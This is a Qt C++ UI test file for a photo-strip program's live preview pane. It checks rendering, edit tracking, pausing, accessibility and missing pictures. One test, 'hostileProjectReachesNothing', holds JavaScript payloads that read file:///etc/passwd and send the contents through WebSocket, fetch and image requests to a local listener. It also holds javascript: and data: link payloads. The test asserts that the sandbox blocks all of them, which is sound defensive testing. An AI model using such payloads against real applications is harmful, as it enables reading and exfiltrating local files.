// The live preview pane in a real window on a (virtual) display: the page loads without script
// errors and moves, follows an edit within a second, previews a design with a missing picture,
// and rests while paused, hidden or minimised. Runs under xvfb-run, not offscreen.
#include <QAccessible>
#include <QElapsedTimer>
#include <QEventLoop>
#include <QGuiApplication>
#include <QImage>
#include <QSignalSpy>
#include <QSpinBox>
#include <QTcpServer>
#include <QTest>
#include <QTimer>
#include <QWebEnginePage>
#include <QWebEngineView>

#include "ColorPanel.h"
#include "LivePreview.h"
#include "MainForm.h"
#include "UiTest.h"

using namespace uitest;

namespace {
// The web engine does its work in the window's event loop: waits here run that loop (the test
// library's own waits sleep between rounds and starve the engine).
void Wait(int ms) {
  QEventLoop loop;
  QTimer::singleShot(ms, &loop, &QEventLoop::quit);
  loop.exec();
}
// The value of a script run in the shown page (invalid when it gave none within 5 s).
QVariant Run(TLivePreviewPane& pane, const QString& script) {
  QVariant result;
  QEventLoop loop;
  QTimer::singleShot(5000, &loop, &QEventLoop::quit);
  pane.shownView()->page()->runJavaScript(script, [&](const QVariant& value) {
    result = value;
    loop.quit();
  });
  loop.exec();
  return result;
}
double Offset(TLivePreviewPane& pane) {
  return Run(pane, "document.getElementById('Slider1_div').dataset.offset").toDouble();
}
QImage Grab(TLivePreviewPane& pane) { return pane.shownView()->grab().toImage(); }
// Waits for the next page to take its place (the first one starts the web engine: slow).
bool NextPage(QSignalSpy& shown, int timeoutMs = 30000) { return shown.wait(timeoutMs); }
}  // namespace

class TestLivePreview : public QObject {
  Q_OBJECT

 private slots:
  void cleanup() { VERIFY_PROMPTS(); }

  void pageMovesAndFollowsEdits() {
    TTestEnvironment env;
    TMainForm form(env.ProgramFolder());
    auto& pane = *form.livePreview();
    QSignalSpy shown(&pane, &TLivePreviewPane::pageShown);
    for (int i = 0; i < 4; ++i)
      form.document().addPictures({MakeJpeg(env.Path(QString("pics/p%1.jpg").arg(i)), 200, 120)});
    form.show();
    QVERIFY2(NextPage(shown), qPrintable(pane.statusText()));
    QVERIFY2(pane.statusText().isEmpty(), qPrintable(pane.statusText()));
    QVERIFY2(pane.consoleErrors().isEmpty(), qPrintable(pane.consoleErrors().join('\n')));

    // Assistive technology finds the program under its own name with the main window as its one
    // window: not the hidden windows the web views draw their pages through (they are there).
    QAccessibleInterface* program = QAccessible::queryAccessibleInterface(qApp);
    QCOMPARE(program->text(QAccessible::Name), QStringLiteral("Torvane"));
    QStringList windows;
    for (int i = 0; i < program->childCount(); ++i) {
      windows << program->child(i)->text(QAccessible::Name);
      QCOMPARE(program->indexOfChild(program->child(i)), i);
    }
    QCOMPARE(windows, QStringList{form.windowTitle()});
    QVERIFY(QGuiApplication::topLevelWindows().size() > 1);

    // The strip moves.
    const QImage first = Grab(pane);
    Wait(300);
    QVERIFY(Grab(pane) != first);

    // A new background colour shows within a second (the pictures leave the box's corner free
    // of the gradient only at its far right: look at the trailer space).
    const QColor red(255, 0, 0);
    Wait(300);
    QElapsedTimer edit;
    prompt::QueueColor(red);
    edit.start();
    QTest::mouseClick(Find<TColorPanel>(form, "pnl_pBgColor"), Qt::LeftButton);
    QVERIFY2(NextPage(shown, 5000), qPrintable(pane.statusText()));
    QVERIFY2(edit.elapsed() < 1000, qPrintable(QString("%1 ms").arg(edit.elapsed())));
    QCOMPARE(Run(pane, "getComputedStyle(document.querySelector('.torvane-box')).backgroundColor")
                 .toString(),
             QStringLiteral("rgb(255, 0, 0)"));
    QVERIFY(pane.consoleErrors().isEmpty());

    // The strip goes on from where it stood, and a paused strip stays where it is, whatever the
    // change: the page on screen draws it in place.
    struct TEdit {
      const char* what;
      std::function<void()> apply;
    };
    const TEdit edits[] = {
        {"speed",
         [&] {
           auto* step = Find<QSpinBox>(form, "spnedt_pStep");
           step->setValue(step->value() + 1);
         }},
        {"pictures", [&] { form.document().addPictures({env.Path("pics/p0.jpg")}); }},
        {"order", [&] { form.document().moveUp({2}); }},
    };
    for (const TEdit& e : edits) {
      for (const bool paused : {false, true}) {
        pane.setPaused(paused);
        Wait(300);
        const double before = Offset(pane);
        e.apply();
        QVERIFY2(NextPage(shown, 5000), e.what);
        const double after = Offset(pane);
        QVERIFY2(paused ? std::abs(after - before) < 4 : after >= before, e.what);
        QVERIFY2(paused == (Run(pane,
                                "document.querySelector('.torvane-toggle')"
                                ".getAttribute('aria-pressed')")
                                .toString() == "true"),
                 e.what);
      }
    }
    pane.setPaused(false);
    QVERIFY(pane.consoleErrors().isEmpty());
  }

  void restsWhenPausedHiddenOrMinimised() {
    TTestEnvironment env;
    TMainForm form(env.ProgramFolder());
    auto& pane = *form.livePreview();
    QSignalSpy shown(&pane, &TLivePreviewPane::pageShown);
    form.document().addPictures({MakeJpeg(env.Path("pics/a.jpg"), 300, 120)});
    form.show();
    QVERIFY2(NextPage(shown), qPrintable(pane.statusText()));

    struct TCase {
      const char* what;
      std::function<void()> rest, wake;
    };
    const TCase cases[] = {
        {"paused", [&] { pane.setPaused(true); }, [&] { pane.setPaused(false); }},
        {"pane hidden", [&] { Act(form, "LivePreview1")->trigger(); },
         [&] { Act(form, "LivePreview1")->trigger(); }},
        {"window minimised", [&] { form.setWindowState(Qt::WindowMinimized); },
         [&] { form.setWindowState(Qt::WindowNoState); }},
    };
    // The default speed moves the strip 25 px a second.
    for (const TCase& c : cases) {
      double held = Offset(pane);
      c.rest();
      Wait(300);
      if (pane.active()) held = Offset(pane);  // a frozen page answers only when awake
      Wait(1000);
      if (!pane.active()) {
        QCOMPARE(pane.shownView()->page()->isVisible(), false);
        QCOMPARE(pane.shownView()->page()->lifecycleState(),
                 QWebEnginePage::LifecycleState::Frozen);
      }
      c.wake();
      // A frozen page answers once it is awake again; the strip stood still meanwhile.
      QVERIFY2(std::abs(Offset(pane) - held) < 8, c.what);
      Wait(500);
      QVERIFY2(std::abs(Offset(pane) - held) >= 8, c.what);
    }
  }

  // A project from anywhere reaches no file and no listener through the pane: its links follow
  // nothing there (web and mail addresses open in the browser instead), and even script running
  // in the page gets neither a local file, nor a connection, nor another page.
  void hostileProjectReachesNothing() {
    TTestEnvironment env;
    QTcpServer listener;
    QVERIFY(listener.listen(QHostAddress::LocalHost));
    const QString local = QStringLiteral("127.0.0.1:%1").arg(listener.serverPort());
    const QStringList links = {
        "javascript:(function(){var x=new XMLHttpRequest();x.open('GET','file:///etc/passwd',"
        "false);x.send();new WebSocket('ws://" +
            local + "/?'+x.responseText)})()",
        "file:///etc/passwd", "data:text/html,<script>fetch('http://" + local + "/d')</script>",
        "http://" + local + "/page", "mailto:someone@example.org"};
    const QString project =
        WriteProject(env.Path("hostile.tvn"), {"0", "0", "0", "0", "0"}, [&](TProjectModel& model) {
          for (int i = 0; i < 5; ++i) {
            TItemData& item = model.Items[size_t(i)];
            item.link = links[i].toStdString();
            item.originalPath = MakeJpeg(env.Path(QString("p%1.jpg").arg(i)), 90, 60).toStdString();
          }
        });
    TMainForm form(env.ProgramFolder());
    auto& pane = *form.livePreview();
    QSignalSpy shown(&pane, &TLivePreviewPane::pageShown);
    QVERIFY(form.files().openProjectFile(project));
    form.show();
    QVERIFY2(NextPage(shown), qPrintable(pane.statusText()));
    const QUrl page = pane.shownView()->url();
    QCOMPARE(page.scheme(), QStringLiteral("torvane-live"));
    for (int i = 0; i < 5; ++i) {
      Run(pane, QString("document.querySelectorAll('.torvane-box a')[%1].click()").arg(i));
      Wait(300);
      QCOMPARE(env.launcher.documents.contains(links[i]), i >= 3);
      QVERIFY(pane.statusText().contains(i >= 3 ? "in your browser" : "is not followed"));
    }
    const QString escape = QStringLiteral(
        "var got = ''; try { var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', "
        "false); x.send(); got = x.responseText; } catch (e) {} new WebSocket('ws://%1/s');"
        "fetch('http://%1/f'); new Image().src = 'http://%1/i'; location.href = 'file:///etc/'; "
        "got");
    QCOMPARE(Run(pane, escape.arg(local)).toString(), QString());
    Wait(1500);
    QVERIFY(!listener.hasPendingConnections());
    QCOMPARE(pane.shownView()->url(), page);
    QCOMPARE(env.launcher.documents.size(), 2);
  }

  void missingPicturePreviews() {
    TTestEnvironment env;
    TMainForm form(env.ProgramFolder());
    auto& pane = *form.livePreview();
    QSignalSpy shown(&pane, &TLivePreviewPane::pageShown);
    const QString gone = MakeJpeg(env.Path("pics/gone.jpg"), 200, 120);
    form.document().addPictures({MakeJpeg(env.Path("pics/kept.jpg"), 200, 120), gone});
    QFile::remove(gone);
    form.show();
    QVERIFY2(NextPage(shown), qPrintable(pane.statusText()));
    QVERIFY2(pane.consoleErrors().isEmpty(), qPrintable(pane.consoleErrors().join('\n')));
    QCOMPARE(Run(pane, "document.querySelectorAll('.torvane-box img').length > 0").toBool(), true);
    QCOMPARE(form.document().itemCount(), 2);  // the preview leaves the design as it is
  }

  // Pictures renamed away or cut short while the window is in the background: the pane follows
  // the tree once the window is active again and shows them as missing.
  void picturesGoneMeanwhileShowMissing() {
    TTestEnvironment env;
    TMainForm form(env.ProgramFolder());
    auto& pane = *form.livePreview();
    QSignalSpy shown(&pane, &TLivePreviewPane::pageShown);
    QStringList paths;
    for (const char* name : {"stays", "renamed", "cut"})
      paths << MakeJpeg(env.Path(QString("pics/%1.jpg").arg(name)), 200, 120);
    form.document().addPictures(paths);
    form.show();
    QVERIFY2(NextPage(shown), qPrintable(pane.statusText()));
    const QString pictures =
        "Array.from(new Set(Array.from(document.querySelectorAll('.torvane-box img'), "
        "i => i.getAttribute('src') || i.dataset.src || ''))).filter(s => s).sort().join(' ')";
    QCOMPARE(Run(pane, pictures).toString().split(' ').size(), 3);

    QEvent away(QEvent::WindowDeactivate), back(QEvent::WindowActivate);
    QCoreApplication::sendEvent(&form, &away);
    QVERIFY(QFile::rename(paths[1], paths[1] + ".old"));
    QVERIFY(QFile::resize(paths[2], 12));
    QCoreApplication::sendEvent(&form, &back);
    QVERIFY2(NextPage(shown, 3000), qPrintable(pane.statusText()));
    QCOMPARE(Run(pane, pictures).toString().split(' ').size(), 1);
  }

  // A design of many items: the page holds the pieces of the strip near the view only, and only
  // the pictures it shows are made; it moves, and items come and go in place.
  void largeDesignShowsOnlyWhatIsNear() {
    TTestEnvironment env;
    TMainForm form(env.ProgramFolder());
    auto& pane = *form.livePreview();
    QSignalSpy shown(&pane, &TLivePreviewPane::pageShown);
    QStringList paths;
    for (int i = 0; i < 600; ++i)
      paths << (i < 2 ? MakeJpeg(env.Path(QString("pics/%1.jpg").arg(i)), 240, 120) : paths[i % 2]);
    form.document().addPictures(paths);
    form.show();
    QVERIFY2(NextPage(shown), qPrintable(pane.statusText()));
    const QString count = "document.querySelectorAll('%1').length";
    QVERIFY(Run(pane, count.arg(".torvane-piece")).toInt() <= 6);
    QVERIFY(Run(pane, count.arg(".torvane-item")).toInt() < 150);  // of 1,200 in two copies
    const QImage first = Grab(pane);
    Wait(300);
    QVERIFY(Grab(pane) != first);
    const QUrl page = pane.shownView()->url();
    form.document().moveUp({300});
    QVERIFY2(NextPage(shown, 5000), qPrintable(pane.statusText()));
    QCOMPARE(pane.shownView()->url(), page);
    QVERIFY(Run(pane, count.arg(".torvane-piece")).toInt() <= 6);
    QVERIFY(pane.consoleErrors().isEmpty());
  }
};

TORVANE_UI_TEST(TestLivePreview);
#include "TestLivePreview.moc"
